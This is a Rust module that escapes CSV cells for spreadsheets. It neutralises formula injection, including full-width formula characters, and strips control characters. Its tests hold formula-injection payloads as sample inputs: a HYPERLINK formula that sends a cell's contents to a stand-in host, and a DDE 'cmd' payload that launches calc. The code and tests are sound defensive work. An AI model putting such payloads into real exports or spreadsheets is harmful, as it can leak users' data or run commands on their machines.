//! Cells of CSV for spreadsheets, and the failure for an error of the CSV writer.

use super::{Failure, Output};
use crate::activity::printable;

/// The first characters that make a spreadsheet treat a cell as a formula. Chinese and Japanese keyboards type the wide
/// forms.
const FORMULAS: [char; 8] = ['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// A text as a cell: without control characters, and with an apostrophe before a formula. Names of activities come from
/// services and from people who share an activity. A formula in a name could send the table elsewhere. Numbers are
/// unchanged.
pub fn cell(text: &str) -> String {
    let text = printable(text);
    let is_formula = text.trim_start().starts_with(FORMULAS) && text.trim().parse::<f64>().is_err();
    if is_formula { format!("'{text}") } else { text }
}

/// Converts a failed write into a failure of the command.
pub fn failed(error: csv::Error) -> Failure {
    match error.into_kind() {
        csv::ErrorKind::Io(error) => Output::write_failed(&error),
        kind => Output::failed(&format!("{kind:?}")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "=1",
            " =1",
            "\t=1",
            "\r=1",
            "\n=1",
            "\u{0}=1",
            "\u{feff}=1",
            "\u{ff1d}1",
            "\u{ff20}SUM(A1)",
            "-",
            "+x",
        ] {
            let cell = cell(formula);
            assert!(cell.starts_with('\''), "{formula:?} became {cell:?}");
            assert!(!cell.chars().any(char::is_control), "{cell:?}");
        }
        for plain in ["Morning run", "5 = 2 + 3", "-5", "+3.25", "-1e3", "a=b", "'quoted'", "", "跑步", "100-km", "#1"]
        {
            assert_eq!(cell(plain), plain);
        }
        assert!(!cell("a\r\n\tb\u{1b}[31m\u{7f}").chars().any(char::is_control));
    }
}
